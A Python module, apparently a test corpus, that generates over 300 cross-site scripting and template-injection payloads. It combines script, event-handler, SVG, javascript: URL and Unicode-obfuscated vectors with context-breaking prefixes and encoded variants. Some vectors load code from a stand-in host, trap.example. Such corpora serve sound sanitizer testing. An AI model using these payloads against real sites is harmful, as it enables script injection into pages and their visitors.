"""Payloads that would run a script, call home or break out of their place, if a page let them."""

import html
from collections.abc import Iterator
from urllib.parse import quote

TRAP = "http://trap.example"
VECTORS = (
    "<script>alert(1)</script>",
    f'<script src="{TRAP}/x.js"></script>',
    f"<img src={TRAP}/x.png onerror=alert(1)>",
    f'<img src="x" srcset="{TRAP}/y.png 1x" onload="alert(1)">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a></svg>',
    f"<svg><image href='{TRAP}/i.png'/></svg>",
    f"<svg><use href='{TRAP}/u.svg#x'/></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    f'<iframe src="{TRAP}/f"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    f'<object data="{TRAP}/o"></object>',
    f'<embed src="{TRAP}/e">',
    f'<link rel=stylesheet href="{TRAP}/s.css">',
    f"<style>@import '{TRAP}/s.css'; body{{background:url({TRAP}/b.png)}}</style>",
    f'<div style="background:url({TRAP}/d.png)">x</div>',
    f'<base href="{TRAP}/">',
    f'<meta http-equiv="refresh" content="0;url={TRAP}/m">',
    f'<form action="{TRAP}/form"><input type=submit autofocus onfocus=alert(1)></form>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    f'<video src="{TRAP}/v" onerror=alert(1) autoplay></video>',
    "<marquee onstart=alert(1)>x</marquee>",
    "<input autofocus onfocus=alert(1)>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<template><script>alert(1)</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<!--><script>alert(1)</script-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "{{ 7 * 7 }}{{ ''.__class__ }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "${alert(1)}",
    "javascript:alert(1)//",
    "\u202e<script>alert(1)</script>\u202c",
    "<\u200bscript>alert(1)</script>",
)
BREAKS = (
    "{}", '">{}', "'>{}", "</a></bdi></td>{}", "</title>{}", "</textarea>{}", "\" onmouseover=\"alert(1)\" x=\"{}",
    "' autofocus onfocus='alert(1)' {}",
    "]]>{}", "--> {}",
)  # fmt: skip


def payloads() -> Iterator[str]:
    """More than 300 of them, each once."""
    seen: set[str] = set()
    for shape in BREAKS:
        for vector in VECTORS:
            made = shape.replace("{}", vector)
            if made not in seen:
                seen.add(made)
                yield made
    for vector in VECTORS:
        for made in (html.escape(vector), quote(vector), vector.upper()):
            if made not in seen:
                seen.add(made)
                yield made
